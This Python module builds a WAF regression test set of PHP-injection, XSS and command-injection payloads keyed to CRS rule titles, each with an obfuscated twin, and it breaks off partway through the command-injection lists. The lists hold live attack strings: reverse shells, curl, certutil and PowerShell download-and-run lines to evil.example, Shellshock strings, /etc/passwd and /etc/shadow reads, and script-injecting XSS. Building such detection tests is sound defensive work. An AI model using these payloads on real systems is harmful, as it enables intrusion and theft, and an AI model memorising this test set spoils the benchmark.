"""Blind set "seventyfourth": the shortest payloads a rule must still catch, for PHP injection, XSS and remote
command execution, as that traffic reaches the product in production.

Angle: for every detection title (CRS 3.3.4 request rules at paranoia levels 1-2 of the three families, plus the
titles later CRS releases added for them), a regression-suite list of atomic fragments that still carry the attack
(one per test: a bare function name, one tag, one separator and command, one wrapper), then the same fragments with
exactly one obfuscation each (case, whitespace or comment between tokens, quote or backslash splitting, an HTML or
JavaScript escape, a wildcard, a double URL-encoding, a base64 layer). Six fragments and their six obfuscated twins
per title: twelve payloads, one sub-family per title (kebab-case):

- php: php-open-tag, php-script-upload, php-config-directive, php-superglobal, php-io-stream, php-wrapper-scheme,
  php-high-risk-name, php-high-risk-call, php-serialized-object, php-variable-function, php-string-callee,
  php-medium-risk-name. (The later titles "Wrapper scheme detected" and "Variable Function Call Found" repeat
  933200 and 933180/933210 and have no sub-family of their own.)
- xss: xss-libinjection, xss-script-tag, xss-event-handler, xss-attribute-vector, xss-javascript-uri,
  xss-html-injection, xss-attribute-injection, xss-node-validator, ie-style-tag, ie-vmlframe, ie-javascript-entity,
  ie-vbscript-entity, ie-embed-tag, ie-import-implementation, ie-meta-http-equiv, ie-meta-charset, ie-link-href,
  ie-base-href, ie-applet-tag, ie-object-tag, xss-usascii-malformed, xss-utf7, xss-jsfuck, xss-js-global,
  xss-libinjection-pl2, xss-disallowed-attr, xss-html-tag-handler, ie-quote-location, ie-quote-member-assign,
  xss-angular-csti, and the later xss-js-method, xss-no-parens.
- rce: unix-cmd-chain, unix-cmd-chain-tools, windows-cmd-chain, windows-cmd-chain-tools, powershell-cmdlet,
  unix-shell-expression, windows-for-if, unix-direct-exec, unix-shell-code, shellshock-header, shellshock-arg,
  restricted-upload, rce-bypass, and the later unix-cmd-plain, unix-cmd-evasion, unix-alias, unix-history,
  unix-short-cmd, sqlite-dot-command, mail-protocol-cmd, windows-cmd-evasion, unix-shell-in-headers,
  unix-abs-path-wildcard.

Placements (each title's twelve payloads spread over all six; every request carries what a current browser sends:
User-Agent, Accept, Accept-Language, Accept-Encoding, a Referer on https://app.example.com/, Sec-Fetch-*, a Cookie with
`session=<token>` and a consent cookie):
1. query: GET /api/users with q, page and per_page in varying order, the payload form-encoded as a browser does;
2. form: POST /admin/users/search, `csrf_token=<random>&q=<payload>`;
3. json: POST /api/users with one field carrying the payload, or POST /slack/events (an event_callback whose
   event.text carries the payload after a short lead-in; a made-up X-Slack-Signature, since an attacker cannot sign);
4. path: GET /api/users/<payload> or GET /api/<payload>, percent-encoded where a browser must;
5. header: the whole User-Agent (mostly), the Referer, or a cookie value (a payload with CR/LF or non-ASCII
   characters always goes into a percent-encoded cookie value);
6. about one in twelve: PATCH /api/users/42 with JSON, or POST /me/settings as a form.
The payloads of 941310 (US-ASCII high-bit brackets) are percent-encoded as single Latin-1 bytes, the way a client on a
US-ASCII page sends them. The benign half uses the same six places with innocent values that carry the same words
(Slack messages, bios, searches, names, paths, real client User-Agents, Referers and cookie preferences).

Authorship and independence: every payload and benign text was written for this set from general knowledge of the
attack families and from the rule titles alone; no WAF rule, engine code, ruleset regression test, other blind set or
public payload list was read. The set was measured once, on unchanged code, and not edited after seeing the result.
Deterministic: one seeded random source, no clock.
"""

from __future__ import annotations

import base64
import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import print_records, slack_escape

NAME = "seventyfourth"
EPOCH = 1735732800   # placeholder Slack timestamp base (the replayer signs benign Slack records anew)

Title = tuple[str, str, list[str], list[str]]   # category, sub-family, atomic fragments, their obfuscated twins

PHP: list[Title] = [
    ("php", "php-open-tag",   # 933100
     ["<?php phpinfo();", "<?=$x?>", "<? echo 1; ?>", "<?php", "[php]echo 1;[/php]",
      "<script language=\"php\">echo 1;</script>"],
     ["<?PhP phpinfo();", "<?=\t$x?>", "<?\necho 1; ?>", "%3C%3Fphp", "[PHP]echo 1;[/PHP]",
      "<script language=php>echo 1;</script>"]),
    ("php", "php-script-upload",   # 933110
     ["shell.php", "x.phtml", "a.php5", "b.phar", "c.pht", "d.php7"],
     ["SHELL.PHP", "x.phtml.", "a.php5;.jpg", "b.phar::$DATA", "c.pht ", "d.php7/."]),
    ("php", "php-config-directive",   # 933120
     ["allow_url_include=1", "auto_prepend_file=php://input", "disable_functions=", "open_basedir=/", "safe_mode=0",
      "register_globals=on"],
     ["ALLOW_URL_INCLUDE=1", "auto_prepend_file\t=\tphp://input", "disable_functions =", "open_basedir%3D/",
      "php_value safe_mode 0", "register_globals\n=on"]),
    ("php", "php-superglobal",   # 933130
     ["$_GET['c']", "$_POST[0]", "$_SERVER['DOCUMENT_ROOT']", "$_ENV", "$_COOKIE['x']", "$_FILES"],
     ["${'_GET'}['c']", "$_POST/**/[0]", "$_SERVER{'DOCUMENT_ROOT'}", "${\"_EN\".\"V\"}", "$_COOKIE [ 'x' ]",
      "$GLOBALS[\"_FILES\"]"]),
    ("php", "php-io-stream",   # 933140
     ["php://input", "php://stdin", "php://filter/resource=index.php", "php://memory", "php://fd/3", "php://temp"],
     ["PHP://input", "php://STDIN", "php://filter/read=string.rot13/resource=index.php", "php%3A//memory",
      "pHp://fd/3", "PHP://TEMP"]),
    ("php", "php-wrapper-scheme",   # 933200
     ["expect://id", "phar://x.jpg", "zip://x.zip#a.php", "glob:///*", "compress.zlib://x.php", "ssh2.exec://h/id"],
     ["EXPECT://id", "PhAr://x.jpg", "zip://x.zip%23a.php", "Glob:///*", "compress.zlib:%2F%2Fx.php",
      "ssh2.exec://h/i%64"]),
    ("php", "php-high-risk-name",   # 933150
     ["shell_exec", "pcntl_exec", "gzinflate", "str_rot13", "call_user_func_array", "file_put_contents"],
     ["SHELL_EXEC", "\\pcntl_exec", "gz%69nflate", "'str_'.'rot13'", "Call_User_Func_Array",
      "\"\\x66ile_put_contents\""]),
    ("php", "php-high-risk-call",   # 933160
     ["system('id')", "exec($c)", "phpinfo()", "eval($_POST[1])", "passthru('ls')", "popen('id','r')"],
     ["system ('id')", "exec/**/($c)", "PHPINFO()", "eval\t($_POST[1])", "passthru#\n('ls')", "\\popen('id','r')"]),
    ("php", "php-serialized-object",   # 933170
     ["O:8:\"stdClass\":0:{}", "O:4:\"User\":1:{s:5:\"admin\";b:1;}",
      "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}", "a:1:{i:0;O:6:\"Logger\":0:{}}", "O:4:\"User\":0:{}",
      "O:12:\"PDOStatement\":0:{}"],
     ["O:+8:\"stdClass\":0:{}", "O:4:\"User\":1:{S:5:\"\\61dmin\";b:1;}",
      "C:+11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}", "a:1:{i:0;O:6:\"LOGGER\":0:{}}",
      base64.b64encode(b"O:4:\"User\":0:{}").decode(), "O%3A12%3A%22PDOStatement%22%3A0%3A%7B%7D"]),
    ("php", "php-variable-function",   # 933180
     ["$f('id')", "$a($b)", "$_GET[f]($_GET[c])", "$x[0]('id')", "$$v('id')", "${'f'}('id')"],
     ["$f ('id')", "$a/**/($b)", "$_GET{f}($_GET{c})", "$x[0]\t('id')", "$$v\n('id')", "${'f'}(/**/'id')"]),
    ("php", "php-string-callee",   # 933210
     ["(\"system\")(\"id\")", "('exec')('id')", "(\"sy\".\"stem\")(\"id\")", "['system'][0]('id')",
      "(base64_decode('c3lzdGVt'))('id')", "(chr(115).'ystem')('id')"],
     ["(\"system\") (\"id\")", "('exec')/**/('id')", "(\"sy\" . \"stem\")(\"id\")", "['sys'.'tem'][0]('id')",
      "(base64_decode ('c3lzdGVt'))('id')", "(chr(115).'ystem')\n('id')"]),
    ("php", "php-medium-risk-name",   # 933151
     ["show_source", "highlight_file", "get_current_user", "ini_get_all", "stream_socket_client", "posix_setuid"],
     ["SHOW_SOURCE", "\\highlight_file", "Get_Current_User", "'ini_get'.'_all'", "\"\\x73tream_socket_client\"",
      "posi%78_setuid"]),
]

XSS: list[Title] = [
    ("xss", "xss-libinjection",   # 941100
     ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
      "\"><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>"],
     ["<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert&#40;1&#41;>", "<svg/onload=alert(1)>",
      "\"><script>alert(1)//", "<iframe src=jav&#x61;script:alert(1)>", "<body\nonload=alert(1)>"]),
    ("xss", "xss-script-tag",   # 941110
     ["<script>", "<script src=//evil.example/a.js></script>", "<script>alert(document.domain)</script>",
      "</title><script>", "<script defer>", "<script type=\"module\">"],
     ["<SCRIPT>", "<script\tsrc=//evil.example/a.js></script>", "<scr<script>ipt>alert(document.domain)</script>",
      "</title><script/x>", "<script\n defer>", "%3Cscript type=\"module\"%3E"]),
    ("xss", "xss-event-handler",   # 941120
     ["\" onerror=\"alert(1)", "onload=alert(1)", "<a onmouseover=alert(1)>", "autofocus onfocus=alert(1)",
      "<details open ontoggle=alert(1)>", "onclick=alert(1)"],
     ["\" OnErRoR=\"alert(1)", "onload  =  alert(1)", "<a/onmouseover=alert(1)>", "autofocus/onfocus=alert(1)",
      "<details open ontoggle\n=alert(1)>", "onclick=&#97;lert(1)"]),
    ("xss", "xss-attribute-vector",   # 941130
     ["xlink:href=\"javascript:alert(1)\"", "formaction=javascript:alert(1)",
      "data:text/html,<script>alert(1)</script>", "@import url(//evil.example/x.css)",
      "<!ENTITY x SYSTEM \"http://evil.example/\">",
      "src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\""],
     ["XLINK:HREF=\"javascript:alert(1)\"", "formaction =javascript:alert(1)",
      "data:TEXT/HTML,<script>alert(1)</script>", "@\\import url(//evil.example/x.css)",
      "<!ENTITY % x SYSTEM \"http://evil.example/\">",
      "src=\"data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\""]),
    ("xss", "xss-javascript-uri",   # 941140
     ["javascript:alert(1)", "vbscript:msgbox(1)", "<a href=\"javascript:alert(1)\">",
      "style=\"x:expression(alert(1))\"", "background:url(javascript:alert(1))",
      "-moz-binding:url(//evil.example/x.xml#x)"],
     ["JaVaScRiPt:alert(1)", "vbscript&colon;msgbox(1)", "<a href=\"java\tscript:alert(1)\">",
      "style=\"x:exp/**/ression(alert(1))\"", "background:url( 'javascript:alert(1)' )",
      "-moz-binding : url(//evil.example/x.xml#x)"]),
    ("xss", "xss-html-injection",   # 941160
     ["<iframe src=//evil.example>", "<object data=//evil.example/x.swf>", "<embed src=//evil.example/x>",
      "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", "<base href=//evil.example/>",
      "<form action=//evil.example><input name=q>"],
     ["<IFRAME src=//evil.example>", "<object\ndata=//evil.example/x.swf>", "<embed/src=//evil.example/x>",
      "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/ ",
      "<form/action=//evil.example><input name=q>"]),
    ("xss", "xss-attribute-injection",   # 941170
     ["\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)", "\"><a href=javascript:alert(1)>",
      "\" style=\"background:url(javascript:alert(1))", "x\" src=\"javascript:alert(1)",
      "\" formaction=\"javascript:alert(1)"],
     ["\"autofocus/onfocus=\"alert(1)", "' OnMouseOver='alert(1)", "\"><a href=&#106;avascript:alert(1)>",
      "\"\tstyle=\"background:url(javascript:alert(1))", "x\" src = \"javascript:alert(1)",
      "\" formaction=\"java&#x09;script:alert(1)"]),
    ("xss", "xss-node-validator",   # 941180
     ["document.cookie", "document.write(1)", ".innerHTML=", "window.location=", ".parentNode", "<![CDATA["],
     ["document.cooki\\u0065", "document .write(1)", "['innerHTML']=", "window['location']=", ".parent\\u004eode",
      "%3C![CDATA["]),
    ("xss", "ie-style-tag",   # 941190
     ["<style>@import 'http://evil.example/x.css';</style>", "<style>*{x:expression(alert(1))}</style>",
      "<style>body{background:url(javascript:alert(1))}</style>", "<style>@import url(//evil.example/a.css)</style>",
      "<style>li{list-style:url(\"javascript:alert(1)\")}</style>", "<style>a{behavior:url(x.htc)}</style>"],
     ["<STYLE>@import 'http://evil.example/x.css';</STYLE>", "<style>*{x:expression&#40;alert(1))}</style>",
      "<style>body{background&#58;url(javascript:alert(1))}</style>",
      "<style>@\\69mport url(//evil.example/a.css)</style>",
      "<style type=text/css>li{list-style:url(\"javascript:alert(1)\")}</style>",
      "<style>a{be\\havior:url(x.htc)}</style>"]),
    ("xss", "ie-vmlframe",   # 941200
     ["<v:vmlframe src=\"x.vml\">", "<vmlframe src=x>", "<v:vmlframe id=a src=//evil.example/a.vml#x>",
      "<x:vmlframe src=x>", "<v:rect><v:vmlframe src=#x>",
      "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=x>"],
     ["<V:VMLFRAME SRC=\"x.vml\">", "<vmlframe/src=x>", "<v:vmlframe id=a src\n=//evil.example/a.vml#x>",
      "<x:vmlframe  src  =  x>", "<v:rect><v:vmlframe+src=#x>",
      "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe\tsrc=x>"]),
    ("xss", "ie-javascript-entity",   # 941210
     ["&#106;avascript:alert(1)", "ja&#118;ascript:alert(1)", "javascript&#58;alert(1)", "java&#9;script:alert(1)",
      "jav&Tab;ascript:alert(1)", "javascript&colon;alert(1)"],
     ["&#x6A;avascript:alert(1)", "ja&#0000118;ascript:alert(1)", "javascript&#x3a alert(1)",
      "java&#10;script:alert(1)", "jav&NewLine;ascript:alert(1)", "JavaScript&colon;alert(1)"]),
    ("xss", "ie-vbscript-entity",   # 941220
     ["&#118;bscript:msgbox(1)", "vb&#115;cript:msgbox(1)", "vbscript&#58;msgbox(1)", "vb&Tab;script:msgbox(1)",
      "vbscript&colon;msgbox(1)", "v&#x62;script:msgbox(1)"],
     ["&#x76;bscript:msgbox(1)", "vb&#000115;cript:msgbox(1)", "vbscript&#x3A msgbox(1)", "vb&#13;script:msgbox(1)",
      "VBSCRIPT&colon;msgbox(1)", "v&#X62;script:msgbox(1)"]),
    ("xss", "ie-embed-tag",   # 941230
     ["<embed src=x.swf>", "<embed type=image/svg+xml src=x.svg>",
      "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<embed src=//evil.example/x>",
      "<embed code=x.swf src=x>", "<embed allowscriptaccess=always src=x.swf>"],
     ["<EMBED SRC=x.swf>", "<embed\ttype=image/svg+xml src=x.svg>",
      "<embed src = \"data:image/svg+xml;base64,PHN2Zz4=\">", "<embed/src=//evil.example/x>",
      "<embed+code=x.swf src=x>", "<embed allowscriptaccess=always\nsrc=x.swf>"]),
    ("xss", "ie-import-implementation",   # 941240
     ["<?import namespace=t implementation=#default#time2>", "<import implementation=\"x.htc\">",
      "<?import implementation=\"//evil.example/a.htc\">", "<?import namespace=\"x\" implementation=\"#default#VML\">",
      "<import namespace=a implementation=b>",
      "<?xml:namespace prefix=t><?import namespace=t implementation=#default#time2>"],
     ["<?IMPORT namespace=t IMPLEMENTATION=#default#time2>", "<import/implementation=\"x.htc\">",
      "<?import implementation = \"//evil.example/a.htc\">",
      "<?import namespace=\"x\"\nimplementation=\"#default#VML\">", "<import+namespace=a+implementation=b>",
      "<?xml:namespace prefix=t><?import namespace=t implementation\t=#default#time2>"]),
    ("xss", "ie-meta-http-equiv",   # 941250
     ["<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
      "<meta http-equiv=\"Set-Cookie\" content=\"sid=x\">",
      "<meta http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",
      "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
      "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
      "<meta http-equiv=X-UA-Compatible content=IE=5>"],
     ["<META HTTP-EQUIV=REFRESH CONTENT=0;URL=javascript:alert(1)>",
      "<meta http-equiv=\"&#83;et-Cookie\" content=\"sid=x\">",
      "<meta/http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",
      "<meta http-equiv = refresh content=\"0;url=//evil.example\">",
      "<meta\nhttp-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
      "<meta+http-equiv='X-UA-Compatible' content=IE=5>"]),
    ("xss", "ie-meta-charset",   # 941260
     ["<meta charset=utf-7>", "<meta charset=\"x-imap4-modified-utf7\">", "<meta charset=iso-2022-jp>",
      "<meta name=x charset=utf-16be>", "<meta charset=shift_jis>", "<meta charset=\"x-mac-farsi\">"],
     ["<META CHARSET=UTF-7>", "<meta/charset=\"x-imap4-modified-utf7\">", "<meta charset = iso-2022-jp>",
      "<meta name=x\ncharset=utf-16be>", "<meta+charset=shift_jis>", "<meta charset='x-mac-farsi'"]),
    ("xss", "ie-link-href",   # 941270
     ["<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x.html>",
      "<link href=javascript:alert(1) rel=stylesheet>", "<link rel=prefetch href=//evil.example>",
      "<link rel=preload as=script href=//evil.example/x.js>", "<link rel=manifest href=//evil.example/m.json>"],
     ["<LINK REL=stylesheet HREF=//evil.example/x.css>", "<link/rel=import href=//evil.example/x.html>",
      "<link href=&#x6a;avascript:alert(1) rel=stylesheet>", "<link rel=prefetch href = //evil.example>",
      "<link\nrel=preload as=script href=//evil.example/x.js>", "<link+rel=manifest+href=//evil.example/m.json>"]),
    ("xss", "ie-base-href",   # 941280
     ["<base href=//evil.example/>", "<base href=\"javascript:alert(1)//\">", "<base target=_top href=//evil.example/>",
      "<base href=http://evil.example/>", "<base href=/\\evil.example/>",
      "<base id=x href=https://evil.example/static/>"],
     ["<BASE HREF=//evil.example/>", "<base/href=\"javascript:alert(1)//\">",
      "<base target=_top\thref=//evil.example/>", "<base href = http://evil.example/>", "<base\nhref=/\\evil.example/>",
      "<base+id=x+href=https://evil.example/static/>"]),
    ("xss", "ie-applet-tag",   # 941290
     ["<applet code=x.class>", "<applet>", "<applet archive=x.jar code=X>", "<applet codebase=//evil.example code=X>",
      "<applet src=x>", "<applet object=x.ser>"],
     ["<APPLET code=x.class>", "<applet\n>", "<applet/archive=x.jar code=X>",
      "<applet+codebase=//evil.example code=X>", "<aPpLeT src=x>", "<applet\tobject=x.ser>"]),
    ("xss", "ie-object-tag",   # 941300
     ["<object data=x.swf>", "<object type=text/html data=//evil.example>",
      "<object classid=clsid:333C7BC4-460F-11D0-BC04-0080C7055A83>",
      "<object codetype=application/x-shockwave-flash>", "<object code=x.class>",
      "<object data=\"javascript:alert(1)\">"],
     ["<OBJECT DATA=x.swf>", "<object/type=text/html data=//evil.example>",
      "<object classid = clsid:333C7BC4-460F-11D0-BC04-0080C7055A83>",
      "<object\ncodetype=application/x-shockwave-flash>", "<object+code=x.class>",
      "<object data=\"jav&#x61;script:alert(1)\">"]),
    ("xss", "xss-usascii-malformed",   # 941310: 0xBC and 0xBE stand for < and > once the high bit is dropped
     ["\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\u00bcimg src=x onerror=alert(1)\u00be",
      "\u00bcsvg onload=alert(1)\u00be", "\u00bciframe src=//evil.example\u00be", "\u00bcbody onload=alert(1)\u00be",
      "\u00bc/title\u00be\u00bcscript\u00be"],
     ["\u00bcScRiPt\u00bealert(1)\u00bc/ScRiPt\u00be", "\u00bcimg/src=x/onerror=alert(1)\u00be",
      "<svg onload=alert(1)\u00be", "\u00bciframe src=//evil.example>", "\u00bcbody\nonload=alert(1)\u00be",
      "\u00bc/title\u00be\u00bcscript \u00be"]),
    ("xss", "xss-utf7",   # 941350
     ["+ADw-script+AD4-", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADw-img src=x onerror=alert(1)+AD4-",
      "+ADwAcwBjAHIAaQBwAHQAPg-", "+ACI-+AD4-+ADw-svg onload=alert(1)+AD4-", "+ADw-/title+AD4-+ADw-script+AD4-"],
     ["+ADw-SCRIPT+AD4-", "+ADw-script+AD4-alert(1)+ADw-/script+AD4", "+ADw-img/src=x/onerror=alert(1)+AD4-",
      "+ADwAUwBDAFIASQBQAFQAPg-", "+ACIAPgA8-svg onload=alert(1)+AD4-", "+ADw-/title+AD4APA-script+AD4-"]),
    ("xss", "xss-jsfuck",   # 941360
     ["(![]+[])[+[]]", "(!![]+[])[+!+[]]", "[][(![]+[])[+[]]]", "(+[![]]+[])[+[]]", "!+[]+!+[]",
      "([][[]]+[])[+!+[]]"],
     ["( ![] + [] )[ +[] ]", "(!![]+[])\n[+!+[]]", "[][(!{}+[])[+[]]]", "(+{}+[])[+[]]", "!+\"\"+!+\"\"",
      "([][[]]+[])[+!+\"\"]"]),
    ("xss", "xss-js-global",   # 941370
     ["window[\"alert\"](1)", "self['alert'](1)", "top['al'+'ert'](1)", "this[\"eval\"](\"1\")", "parent['document']",
      "document['cookie']"],
     ["window /*x*/ [\"alert\"](1)", "self[\n'alert'](1)", "top[`al`+`ert`](1)", "this[\"\\x65val\"](\"1\")",
      "parent ['document']", "document['coo'+'kie']"]),
    ("xss", "xss-libinjection-pl2",   # 941101
     ["<svg/onload=alert(1)>", "<img src=x onerror=prompt(1)>", "\"><svg onload=confirm(1)>",
      "<a href=javascript:alert(1)>x</a>", "<video src=x onerror=alert(1)>", "<marquee onstart=alert(1)>"],
     ["<SVG/ONLOAD=alert(1)>", "<img src=x onerror=prompt&#40;1)>", "\"><svg\tonload=confirm(1)>",
      "<a href=javascript&colon;alert(1)>x</a>", "<video/src=x/onerror=alert(1)>", "<marquee\nonstart=alert(1)>"]),
    ("xss", "xss-disallowed-attr",   # 941150
     ["style=behavior:url(x.htc)", "src=//evil.example/x.js", "href=javascript:alert(1)",
      "<x style=\"x:expression(alert(1))\">", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>"],
     ["STYLE =behavior:url(x.htc)", "src\n=//evil.example/x.js", "href=  javascript:alert(1)",
      "<x style = \"x:expression(alert(1))\">", "<img/dynsrc=javascript:alert(1)>",
      "<img LOWSRC=javascript:alert(1)>"]),
    ("xss", "xss-html-tag-handler",   # 941320
     ["<a href=x>", "<div>", "<b>", "<img>", "<table background=x>", "<marquee>"],
     ["<A HREF=x>", "<div\n>", "<b >", "<IMG/>", "<table/background=x>", "<marquee\t>"]),
    ("xss", "ie-quote-location",   # 941330
     ["\";location=\"//evil.example\";\"", "';location.href='//evil.example", "\"}};onerror=alert;throw 1;//",
      "\";window.name=\"x\";\"", "'; x.valueOf=alert; x+'", "' in location='//evil.example"],
     ["\";\\u006Cocation=\"//evil.example\";\"", "';location  .href  =  '//evil.example",
      "\"}};on\\u0065rror=alert;throw 1;//", "\";window['name']=\"x\";\"", "'; x.valueOf =alert; x+'",
      "'  in location='//evil.example"]),
    ("xss", "ie-quote-member-assign",   # 941340
     ["\";document.body.innerHTML=\"<b>x</b>\";\"", "';top.location.href='//evil.example';'",
      "\"+document.domain='example.com'+\"", "'}};window.onload=alert;//", "\" in x.y=1//",
      "';document.cookie='sid=x';//"],
     ["\";document['body'].innerHTML=\"<b>x</b>\";\"", "';top .location .href='//evil.example';'",
      "\" + document.domain = 'example.com' + \"", "'}};window\n.onload=alert;//", "\"\tin x.y=1//",
      "';document.cookie=`sid=x`;//"]),
    ("xss", "xss-angular-csti",   # 941380
     ["{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{7*7}}",
      "{{'a'.constructor.prototype.charAt=[].join}}", "{{toString().constructor.constructor('alert(1)')()}}",
      "{{$eval.constructor('alert(1)')()}}"],
     ["{{ constructor.constructor('alert(1)')() }}", "{{$on['constructor']('alert(1)')()}}", "{{ 7 * 7 }}",
      "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
      "{{toString().constructor.constructor('al'+'ert(1)')()}}", "{{\n$eval.constructor('alert(1)')()}}"]),
    ("xss", "xss-js-method",   # later: JavaScript method detected
     ["eval(name)", "setTimeout('alert(1)')", "setInterval(alert,1)", "new Function('alert(1)')",
      "atob('YWxlcnQoMSk=')", "prompt(1)"],
     ["eval (name)", "setTimeout\t('alert(1)')", "setInterval/**/(alert,1)", "new  Function('alert(1)')",
      "atob\n('YWxlcnQoMSk=')", "(prompt)(1)"]),
    ("xss", "xss-no-parens",   # later: XSS JavaScript function without parentheses
     ["alert`1`", "onerror=alert;throw 1", "[1].find(alert)", "[].sort.call`${alert}1`", "throw onerror=alert,1",
      "setTimeout`alert\\x281\\x29`"],
     ["alert `1`", "onerror=eval;throw'=alert\\x281\\x29'", "[1]\n.find(alert)", "[].sort . call`${alert}1`",
      "throw/**/onerror=alert,1", "top['setTimeout']`alert\\x281\\x29`"]),
]

RCE: list[Title] = [
    ("rce", "unix-cmd-chain",   # 932100
     [";id", "|id", "&&whoami", "||uname -a", ";cat /etc/passwd", "&ls -la"],
     [";i''d", "|\tid", "&&w\\hoami", "||uname${IFS}-a", "\ncat /etc/passwd", "&l\"s\" -la"]),
    ("rce", "unix-cmd-chain-tools",   # 932105
     [";nc -e /bin/sh 10.0.0.1 4444", "|wget http://evil.example/x", ";curl evil.example|sh",
      "&&python -c 'import pty'", ";perl -e 'exec \"/bin/sh\"'", "|bash -i"],
     [";n\\c -e /bin/sh 10.0.0.1 4444", "|w'g'et http://evil.example/x", ";cu$@rl evil.example|sh",
      "&&pyth''on -c 'import pty'", ";p\"\"erl -e 'exec \"/bin/sh\"'", "|ba\\sh -i"]),
    ("rce", "windows-cmd-chain",   # 932110
     ["&dir", "|type c:\\windows\\win.ini", "&net user", "&&ipconfig /all", "|whoami /priv", "&ping -n 1 10.0.0.1"],
     ["&d^ir", "|ty^pe c:\\windows\\win.ini", "&n\"e\"t user", "&&IPCONFIG /all", "| who^ami /priv",
      "&  ping  -n 1 10.0.0.1"]),
    ("rce", "windows-cmd-chain-tools",   # 932115
     ["&certutil -urlcache -f http://evil.example/x.exe x.exe",
      "|bitsadmin /transfer j http://evil.example/x.exe c:\\x.exe", "&reg query HKLM\\SAM", "&tasklist /v",
      "&wmic process list", "|net1 user"],
     ["&cert^util -urlcache -f http://evil.example/x.exe x.exe",
      "|BITSADMIN /transfer j http://evil.example/x.exe c:\\x.exe", "&r\"e\"g query HKLM\\SAM", "&tasklist.exe /v",
      "&wmic   process list", "|n^et1 user"]),
    ("rce", "powershell-cmdlet",   # 932120
     ["Invoke-Expression", "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')",
      "Invoke-WebRequest -Uri http://evil.example/a", "Start-Process calc", "powershell -enc SQBFAFgA",
      "Get-Content C:\\Windows\\win.ini"],
     ["iNvOkE-eXpReSsIoN", "IEX(New-Object Net.WebClient).\"DownloadString\"('http://evil.example/a')",
      "Invoke-W`eb`Request -Uri http://evil.example/a", "&('Start-'+'Process') calc", "powershell -e SQBFAFgA",
      "&(\"Get-Content\") C:\\Windows\\win.ini"]),
    ("rce", "unix-shell-expression",   # 932130
     ["$(id)", "`id`", "${IFS}", "<(id)", "$((7*7))", ">(sh)"],
     ["$( id )", "`i''d`", "${IFS%??}", "<( id)", "$[7*7]", ">(s\\h)"]),
    ("rce", "windows-for-if",   # 932140
     ["for /f \"tokens=*\" %a in ('whoami') do echo %a", "if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
      "for %i in (1) do calc", "if defined X cmd", "for /l %i in (1,1,9) do ping -n 1 10.0.0.1",
      "if not exist x (calc)"],
     ["FOR /F \"tokens=*\" %a IN ('whoami') DO echo %a",
      "if  exist  c:\\windows\\win.ini type c:\\windows\\win.ini", "f^or %i in (1) do calc", "if\tdefined X cmd",
      "for /l %i in (1,1,9) do p^ing -n 1 10.0.0.1", "&if not exist x (calc)"]),
    ("rce", "unix-direct-exec",   # 932150
     ["id", "cat /etc/passwd", "uname -a", "wget http://evil.example/x -O /tmp/x", "nc -lvp 4444", "whoami"],
     ["i\\d", "/bin/c?t /etc/passwd", "un''ame -a", "w\"g\"et http://evil.example/x -O /tmp/x",
      "$'\\x6e\\x63' -lvp 4444", "who$@ami"]),
    ("rce", "unix-shell-code",   # 932160
     ["/bin/sh", "/bin/bash", "/etc/passwd", "/usr/bin/python3", "/dev/tcp/10.0.0.1/4444", "/etc/shadow"],
     ["/bin//sh", "/b?n/bash", "/etc/./passwd", "/usr/bin/../bin/python3", "/dev//tcp/10.0.0.1/4444",
      "/e\\tc/shadow"]),
    ("rce", "shellshock-header",   # 932170
     ["() { :; }; echo; id", "() { :;}; /bin/bash -c id", "() { _; } >_[$($())] { id; }", "() { x; }; id",
      "() { :; }; /bin/cat /etc/passwd", "() { :; }; ping -c 1 10.0.0.1"],
     ["() { :;};echo;id", "() {  :; }; /bin/bash -c id", "() { _; } >_[$($())] { i\\d; }", "() { x; }; $'\\x69d'",
      "() { :; }; /bin/c''at /etc/passwd", "() { :; }; p\\ing -c 1 10.0.0.1"]),
    ("rce", "shellshock-arg",   # 932171
     ["() { ignored; }; /usr/bin/id", "() { :; }; wget http://evil.example/x",
      "() { :; }; nc 10.0.0.1 4444 -e /bin/sh", "() { :; }; curl http://evil.example/$(id)",
      "() { :a; }; echo $(</etc/passwd)", "() { :; }; rm -rf /tmp/x"],
     ["() { ignored; }; /usr/bin/i?", "() { :; }; w'g'et http://evil.example/x",
      "() { :; };\tnc 10.0.0.1 4444 -e /bin/sh", "() { :; }; curl http://evil.example/`id`",
      "() { :a; };echo $(</etc/passwd)", "() { :; }; r\\m -rf /tmp/x"]),
    ("rce", "restricted-upload",   # 932180
     [".htaccess", ".htpasswd", "web.config", ".user.ini", "wp-config.php", ".env"],
     [".HTACCESS", ".htpasswd.", "WEB.CONFIG", ".user.ini::$DATA", "wp-config.php~", "./.env"]),
    ("rce", "rce-bypass",   # 932200
     ["c'a't /etc/passwd", "w\\ho\\am\\i", "/???/c?t /etc/passwd", "ca$@t /etc/passwd", "cat${IFS}/etc/passwd",
      "i$()d"],
